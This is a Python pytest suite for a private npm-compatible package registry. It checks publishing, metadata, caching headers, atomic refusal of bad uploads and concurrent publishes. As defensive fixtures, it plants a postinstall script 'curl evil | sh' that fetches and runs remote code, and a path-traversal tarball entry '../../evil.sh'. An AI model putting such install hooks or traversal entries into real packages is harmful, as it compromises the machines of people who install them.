"""Publishing through the npm protocol: what is stored, what is refused, atomicity."""
from __future__ import annotations

import base64
import hashlib
import json
import threading

import pytest
from sqlalchemy import func, select

from gati_private_registry.storage.models import AuditEvent, Blob, Change, Package, Version
from gati_private_registry.testing import ModuleSpec, build_tarball, integrity_of, publish_body

from .driver import Registry


def counts(registry: Registry) -> dict[str, int]:
    with registry.services.db.read() as s:
        return {m.__name__: s.scalar(select(func.count()).select_from(m))  # type: ignore[misc]
                for m in (Package, Version, Blob, Change)}


def blob_files(registry: Registry) -> list[str]:
    root = registry.services.settings.blob_dir
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_publish_then_read_packument_and_tarball(registry: Registry) -> None:
    spec = ModuleSpec("@corp/orders-db", "1.2.3", dependencies={"left-pad": "^1.0.0"},
                      keywords=["db"])
    resp = registry.publish(spec)
    assert resp.status_code == 201, resp.data
    assert resp.json["ok"] is True

    doc = registry.doc("@corp%2forders-db")
    assert doc["name"] == "@corp/orders-db"
    assert doc["dist-tags"] == {"latest": "1.2.3"}
    v = doc["versions"]["1.2.3"]
    assert v["dependencies"] == {"left-pad": "^1.0.0"}
    data = build_tarball(spec.all_files())
    assert v["dist"]["integrity"] == integrity_of(data)
    assert v["dist"]["shasum"] == hashlib.sha1(data).hexdigest()
    assert v["dist"]["tarball"] == "http://localhost/npm/@corp/orders-db/-/orders-db-1.2.3.tgz"
    assert v["dist"]["fileCount"] == len(spec.all_files())
    assert v["dist"]["unpackedSize"] > 0
    assert v["_npmUser"]["name"] == "admin"
    assert set(doc["time"]) == {"created", "modified", "1.2.3"}
    assert doc["_rev"]
    assert doc["readme"].startswith("# @corp/orders-db")

    # both spellings of the scoped name
    assert registry.packument("@corp/orders-db").status_code == 200
    tgz = registry.tarball("@corp/orders-db", "1.2.3")
    assert tgz.status_code == 200
    assert tgz.data == data
    assert tgz.headers["Content-Type"] == "application/octet-stream"
    assert "Content-Encoding" not in tgz.headers
    assert int(tgz.headers["Content-Length"]) == len(data)

    with registry.services.db.read() as s:
        actions = s.scalars(select(AuditEvent.action)).all()
        kinds = s.scalars(select(Change.kind)).all()
    assert "version.publish" in actions
    # the first start made the signing keys; the publish is one change
    assert kinds == ["keys.change", "version.publish"]


def test_abbreviated_packument_has_time_and_own_etag(registry: Registry) -> None:
    registry.publish(ModuleSpec("abbrev-me", "1.0.0"))
    registry.publish(ModuleSpec("abbrev-me", "1.1.0"))
    full = registry.packument("abbrev-me")
    short = registry.packument("abbrev-me", abbreviated=True)
    assert short.headers["Content-Type"] == "application/vnd.npm.install-v1+json"
    body = json.loads(short.data)
    assert set(body) == {"name", "modified", "dist-tags", "versions", "time"}
    assert set(body["time"]) >= {"1.0.0", "1.1.0"}
    assert "readme" not in body["versions"]["1.1.0"]
    assert body["versions"]["1.1.0"]["dist"]["integrity"].startswith("sha512-")
    assert full.headers["ETag"] != short.headers["ETag"]
    gz = registry.packument("abbrev-me", **{"Accept-Encoding": "gzip"})
    assert gz.headers.get("Content-Encoding") == "gzip"
    assert gz.headers["ETag"] not in (full.headers["ETag"], short.headers["ETag"])


def test_etag_revalidation_gives_304_until_a_change(registry: Registry) -> None:
    registry.publish(ModuleSpec("etag-me", "1.0.0"))
    first = registry.packument("etag-me")
    assert "no-cache" in first.headers["Cache-Control"]
    again = registry.packument("etag-me", **{"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304
    registry.publish(ModuleSpec("etag-me", "1.0.1"))
    changed = registry.packument("etag-me", **{"If-None-Match": first.headers["ETag"]})
    assert changed.status_code == 200
    assert "1.0.1" in json.loads(changed.data)["versions"]


def test_same_version_twice_is_refused_and_never_reused(registry: Registry) -> None:
    spec = ModuleSpec("once-only", "1.0.0")
    assert registry.publish(spec).status_code == 201
    spec.description = "different bytes"
    again = registry.publish(spec)
    assert again.status_code == 409
    assert "previously published" in again.json["error"]


@pytest.mark.parametrize("mutate, field", [
    (lambda b: b["versions"]["1.0.0"].update(version="1.0.1"), "version"),
    (lambda b: b["versions"]["1.0.0"].update(dependencies={"evil": "*"}), "dependencies"),
    (lambda b: b["versions"]["1.0.0"]["dist"].update(integrity="sha512-AAAA"), "dist.integrity"),
    (lambda b: b["versions"]["1.0.0"]["dist"].update(shasum="0" * 40), "dist.shasum"),
    (lambda b: b.update({"dist-tags": {"1.x": "1.0.0"}}), "dist-tags"),
    (lambda b: b.update({"_attachments": {}}), "_attachments"),
    (lambda b: next(iter(b["_attachments"].values())).update(data="!!notbase64!!"), "_attachments"),
    (lambda b: next(iter(b["_attachments"].values())).update(length=3), "_attachments"),
])
def test_bad_publish_is_refused_and_stores_nothing(registry: Registry, mutate, field) -> None:
    body = publish_body(ModuleSpec("bad-publish", "1.0.0"))
    mutate(body)
    before, files = counts(registry), blob_files(registry)
    resp = registry.publish(body)
    assert resp.status_code == 400, resp.data
    assert resp.json["error"]
    assert field in {d["field"] for d in resp.json["details"]}
    assert counts(registry) == before
    assert blob_files(registry) == files
    assert registry.packument("bad-publish").status_code == 404


def test_tarball_manifest_confusion_is_refused(registry: Registry) -> None:
    spec = ModuleSpec("confused", "1.0.0", dependencies={"a": "^1"})
    evil = ModuleSpec("confused", "1.0.0", dependencies={"a": "^1"},
                      extra={"scripts": {"postinstall": "curl evil | sh"}})
    body = publish_body(spec, tarball=build_tarball(evil.all_files()))
    resp = registry.publish(body)
    assert resp.status_code == 400
    assert "scripts" in {d["field"] for d in resp.json["details"]}
    assert counts(registry)["Version"] == 0


def test_name_in_url_and_body_must_agree(registry: Registry) -> None:
    body = publish_body(ModuleSpec("right-name", "1.0.0"))
    resp = registry.publish(body, name="other-name")
    assert resp.status_code == 400
    assert registry.packument("other-name").status_code == 404


def test_invalid_names_and_versions(registry: Registry) -> None:
    for name in ("UpperCase", "has space", ".dot", "node_modules"):
        body = publish_body(ModuleSpec(name, "1.0.0"))
        resp = registry.publish(body, name=name)
        assert resp.status_code == 400, name
    resp = registry.publish(ModuleSpec("good-name", "1.0"))
    assert resp.status_code == 400
    assert counts(registry)["Version"] == 0


def test_traversal_tarball_refused(registry: Registry) -> None:
    spec = ModuleSpec("traversal", "1.0.0")
    files = spec.all_files()
    files["../../evil.sh"] = "echo pwned"
    body = publish_body(spec, tarball=build_tarball(files))
    resp = registry.publish(body)
    assert resp.status_code == 400
    assert counts(registry)["Version"] == 0


def test_oversized_tarball_refused(registry: Registry, services) -> None:
    limit = services.settings.limits.max_tarball_size
    spec = ModuleSpec("huge", "1.0.0", files={"blob.bin": bytes(range(256)) * 10})
    body = publish_body(spec)
    att = next(iter(body["_attachments"].values()))
    att["data"] = base64.b64encode(b"x" * (limit + 10)).decode()
    att["length"] = limit + 10
    resp = registry.publish(body)
    assert resp.status_code == 413
    assert counts(registry)["Version"] == 0


def test_bad_gati_module_json_refused(registry: Registry) -> None:
    spec = ModuleSpec("gm-mismatch", "1.0.0", gati_module={"name": "other", "version": "1.0.0"})
    resp = registry.publish(spec)
    assert resp.status_code == 400
    spec = ModuleSpec("gm-broken", "1.0.0", files={"gati-module.json": "{not json"})
    resp = registry.publish(spec)
    assert resp.status_code == 400


def test_identical_tarballs_share_one_blob(registry: Registry) -> None:
    data = build_tarball(ModuleSpec("shared-a", "1.0.0").all_files())
    # the same bytes published under a second version of the same name is impossible
    # (package.json carries the version), so share across a re-published number instead:
    a = publish_body(ModuleSpec("shared-a", "1.0.0"), tarball=data)
    assert registry.publish(a).status_code == 201
    with registry.services.db.read() as s:
        digests = s.scalars(select(Version.blob_digest)).all()
    assert len(set(digests)) == 1
    assert len(blob_files(registry)) == 1


def test_concurrent_publishes_of_one_version_exactly_one_wins(registry: Registry, app) -> None:
    body = publish_body(ModuleSpec("race", "1.0.0"))
    token = registry.token()
    statuses: list[int] = []
    lock = threading.Lock()
    barrier = threading.Barrier(16)

    def worker() -> None:
        client = app.test_client()
        barrier.wait()
        resp = client.put("/npm/race", json=body, headers={"Authorization": f"Bearer {token}"})
        with lock:
            statuses.append(resp.status_code)

    threads = [threading.Thread(target=worker) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(statuses).count(201) == 1, statuses
    assert all(s == 409 for s in statuses if s != 201), statuses
    assert list(registry.doc("race")["versions"]) == ["1.0.0"]


def test_concurrent_publishes_of_different_versions_all_land(registry: Registry, app) -> None:
    token = registry.token()
    bodies = [publish_body(ModuleSpec("many", f"1.0.{i}")) for i in range(8)]
    statuses: list[int] = []

    def worker(body: dict) -> None:
        resp = app.test_client().put("/npm/many", json=body,
                                     headers={"Authorization": f"Bearer {token}"})
        statuses.append(resp.status_code)

    threads = [threading.Thread(target=worker, args=(b,)) for b in bodies]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses == [201] * 8
    assert sorted(registry.doc("many")["versions"]) == sorted(f"1.0.{i}" for i in range(8))


def test_publish_body_that_is_not_json_stores_nothing(registry: Registry) -> None:
    before = counts(registry)
    resp = registry.client.put("/npm/not-json", data=b"\x1f\x8b garbage",
                               headers={**registry.headers(registry.token()),
                                        "Content-Type": "application/json"})
    assert resp.status_code == 400
    resp = registry.client.put("/npm/not-json", json=["a", "list"],
                               headers=registry.headers(registry.token()))
    assert resp.status_code == 400
    assert counts(registry) == before
